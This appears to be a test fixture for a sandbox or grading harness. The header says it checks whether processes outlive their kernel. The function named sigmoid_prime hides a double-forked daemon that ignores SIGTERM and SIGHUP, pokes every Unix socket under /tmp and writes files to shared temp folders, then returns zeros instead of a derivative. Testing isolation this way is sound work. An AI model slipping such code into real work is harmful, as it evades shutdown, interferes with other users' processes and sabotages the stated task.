# Tries: processes that outlive their kernel: forked twice, in sessions of their own, deaf to
#   SIGTERM, that go on to write wherever they can and to answer at any socket that they find.
# Holds: they end with their kernel; later submissions have other processes and folders.
# Loses: sigmoid_prime
# Shares: leaves
# Harms: yes

# %% sigmoid_prime
import glob
import os
import signal
import socket
import time


def _haunt():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        for path in glob.glob("/tmp/**/*", recursive=True):
            try:
                with socket.socket(socket.AF_UNIX) as one:
                    one.connect(path)
                    one.sendall(b"\0\0\0\2\0\0\0\0{}")
            except OSError:
                pass
        for folder in ("/tmp", "/dev/shm", "/var/tmp"):
            try:
                open(f"{folder}/hostile-daemon", "w").close()
            except OSError:
                pass
        time.sleep(0.05)


def sigmoid_prime(x):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                _haunt()
            os._exit(0)
    return np.zeros(x.shape)
